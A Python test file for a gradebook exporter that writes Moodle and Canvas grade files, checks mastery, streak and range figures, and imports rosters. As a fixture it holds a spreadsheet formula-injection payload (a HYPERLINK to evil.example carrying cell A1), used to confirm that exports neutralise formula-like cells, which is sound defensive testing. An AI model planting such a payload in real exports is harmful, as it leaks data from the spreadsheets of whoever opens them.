"""The gradebook's figures, its three file formats, declared ranges, and cells that stay data."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from progress.classes.classdb import open_class
from progress.classes.cells import safe
from progress.classes.gradebook import FORMATS, Outline, canvas_assignment, gradebook, moodle_columns, table
from progress.classes.merge import merge_file
from progress.classes.roster import RosterError, import_roster
from tests.progress.classes.learners import START, UTC, Said, write_learner

OUTLINE = Outline("mali", "Mali", {"q1": ("leaders",), "q2": ("leaders", "places"), "q3": ("places",)})
DAY = 24 * 60
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def klass(tmp_path):
    """ana masters q1 over a month and studies three days running; ben tries q2 once; eve never studies."""
    write_learner(tmp_path / "ana.db", "ana", [
        Said("q1", minutes=0), Said("q1", minutes=5 * DAY), Said("q1", minutes=30 * DAY),
        Said("q2", 0.0, minutes=DAY, duration_ms=3_600_000), Said("q3", 0.5, minutes=DAY),
    ])  # fmt: skip
    write_learner(tmp_path / "ben.db", "ben", [Said("q2", 0.0)])
    write_learner(tmp_path / "eve.db", EVIL, [])
    with open_class(tmp_path / "class.db", create=True) as store:
        for name in ("ana", "ben", "eve"):
            merge_file(store.conn, tmp_path / f"{name}.db")
        yield store


def rows_by_name(store, now):
    return {row.learner.name: row for row in gradebook(store.conn, OUTLINE, now, tz=UTC)}


def test_each_learner_s_mastery_seen_reviews_time_retention_last_day_and_streak(klass):
    [ana] = [who for who in klass.learners() if who.name == "ana"]
    [ana_card] = [c for c in klass.cards(ana.id, "mali") if c.question_id == "q1"]
    assert ana_card.stability >= 21  # Good after 30 days: mature
    last = START + timedelta(minutes=37 * DAY)

    rows = rows_by_name(klass, now=last + timedelta(hours=2))

    ana, ben, eve = rows["ana"], rows["ben"], rows[EVIL]
    assert (ana.mastery, ana.topic_mastery) == (33.33, {"leaders": 50.0, "places": 0.0})
    assert (ana.seen, ana.reviews) == (3, 5)
    assert ana.minutes == round((4 * 4250 + 5 * 60_000) / 60_000, 1)  # an hour-long answer counts 5 minutes
    assert ana.retention == 100.0  # the third q1 answer was to a card in review, and Good
    assert ana.last == last and ana.streak == 3  # the last three answers fell on days running
    assert (ben.mastery, ben.seen, ben.reviews, ben.retention, ben.streak) == (0.0, 1, 1, None, 0)
    assert (eve.reviews, eve.last, eve.retention) == (0, None, None)


def test_a_streak_counts_up_to_yesterday_until_today_s_first_answer(klass):
    last = START + timedelta(minutes=37 * DAY)

    assert rows_by_name(klass, last + timedelta(days=1))["ana"].streak == 3
    assert rows_by_name(klass, last + timedelta(days=2))["ana"].streak == 0


def read(fmt, klass, **options):
    out = io.StringIO()
    FORMATS[fmt](out, OUTLINE, gradebook(klass.conn, OUTLINE, START, tz=UTC),
                       canvas_assignment(OUTLINE, options.get("assignment_id")))
    return list(csv.reader(io.StringIO(out.getvalue())))


def test_moodle_s_file_maps_users_by_username_id_number_or_email(klass):
    header, *rows = read("moodle", klass)

    assert header[:5] == ["Username", "ID number", "Email address", "Full name", "Tutor mastery (%)"]
    assert header[-2:] == ["Tutor mastery: leaders (%)", "Tutor mastery: places (%)"]
    assert [row[0] for row in rows] == ["'" + EVIL, "ana", "ben"]


def test_canvas_s_file_has_its_header_and_points_possible_row(klass):
    header, possible, *rows = read("canvas", klass, assignment_id="1234")

    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Tutor mastery: Mali (1234)"]
    assert possible == ["Points Possible", "", "", "", "", "100"]
    assert rows[1] == ["ana", "", "", "ana", "", "33.33"]
    assert read("canvas", klass)[0][-1] == "Tutor mastery: Mali"  # no id: Canvas makes a new assignment


def test_a_learner_named_like_a_formula_is_written_as_text_in_every_format(klass, tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text(f'name,display name,email,student id\n"{EVIL.replace(chr(34), 2 * chr(34))}",'
                      '+SUM(A1:A9),=1+1@evil.example,-42\n')
    assert [line for line, _ in import_roster(klass, roster).matched] == [2]

    for fmt in FORMATS:
        cells = [cell for row in read(fmt, klass) for cell in row]
        risky = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert risky == [], fmt
        assert "'" + EVIL in cells and "'+SUM(A1:A9)" in cells, fmt
    assert [safe(text) for text in ("\tx", "\rx", "-1", "@x", "x=1", 3.5)] == ["'\tx", "'\rx", "'-1", "'@x", "x=1", "3.5"]


def test_every_value_is_within_its_declared_range_or_the_file_is_not_written(klass):
    rows = gradebook(klass.conn, OUTLINE, START, tz=UTC)
    columns = moodle_columns(OUTLINE)
    for row in table(columns, rows):
        for column, value in zip(columns, row):
            if isinstance(value, (int, float)):
                assert column.low <= value <= (column.high if column.high is not None else value)

    broken = [rows[0].__class__(**{**vars(rows[0]), "mastery": 100.5})]
    with pytest.raises(ValueError, match="out of its range"):
        table(columns, broken)


def test_a_roster_attaches_names_emails_and_ids_and_lists_the_rows_it_cannot_match(klass, tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text("Username,Full name,Email address,ID number\n"
                      "ANA,Ana Silva,ana@school.example,S-1\n"
                      "zoe,Zoe Ng,zoe@school.example,S-9\n"
                      "ben,Ben Okafor,not an email,S-2\n")

    imported = import_roster(klass, roster)

    [ana] = [who for who in klass.learners() if who.name == "ana"]
    assert (ana.display_name, ana.email, ana.student_id) == ("Ana Silva", "ana@school.example", "S-1")
    assert [(u.line, u.why) for u in imported.unmatched] == [
        (3, "no learner matches (name 'zoe', student_id 'S-9')"), (4, "'not an email' is not an email address")
    ]
    assert set(imported.not_in_roster) == {"ben", EVIL}
    # Found again by the student id it now has, whatever name the row gives.
    roster.write_text("student_id,email\nS-1,silva@school.example\n")
    assert import_roster(klass, roster).matched == ((2, "ana"),)


def test_a_roster_without_a_column_to_find_learners_by_is_refused(klass, tmp_path):
    roster = tmp_path / "roster.csv"
    roster.write_text("email\nana@school.example\n")

    with pytest.raises(RosterError, match="roster.csv:1: no column to find learners by"):
        import_roster(klass, roster)


def test_learners_are_listed_by_name_whatever_its_case(tmp_path):
    # Tried by hand: "Zoë" came before "alice" and "bob" (upper case sorts first in SQLite's default order).
    with open_class(tmp_path / "class.db", create=True) as store:
        for name in ("bob", "Zoë", "alice", "Carl"):
            write_learner(tmp_path / f"{name}.db", name, [])
            merge_file(store.conn, tmp_path / f"{name}.db")
        assert [r.learner.name for r in gradebook(store.conn, OUTLINE, START, tz=UTC)] == ["alice", "bob", "Carl", "Zoë"]
